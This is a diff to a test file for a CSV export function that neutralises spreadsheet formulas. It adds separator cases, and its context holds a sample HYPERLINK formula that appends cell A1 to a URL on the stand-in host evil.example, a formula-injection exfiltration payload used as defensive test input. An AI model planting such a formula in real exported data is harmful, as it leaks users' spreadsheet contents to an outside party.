@@ -50,6 +50,10 @@ describe("a text in a CSV file", () => {
     },
   );
 
+  it.each([",", ";", "|", "\t", "\r", "\n"])("is no formula after a word and %j", (separator) => {
+    expect(neutralizeFormulas(`x${separator}=1`)).toBe(`x${separator}'=1`);
+  });
+
   it("keeps the formula of the text x;=HYPERLINK(…);y a text where a semicolon separates cells", () => {
     const text = 'x;=HYPERLINK("http://evil.example/?"&A1,"click");y';
     const cells = splitLikeSpreadsheet(formatCsv([[1, text, 2]]), ";");
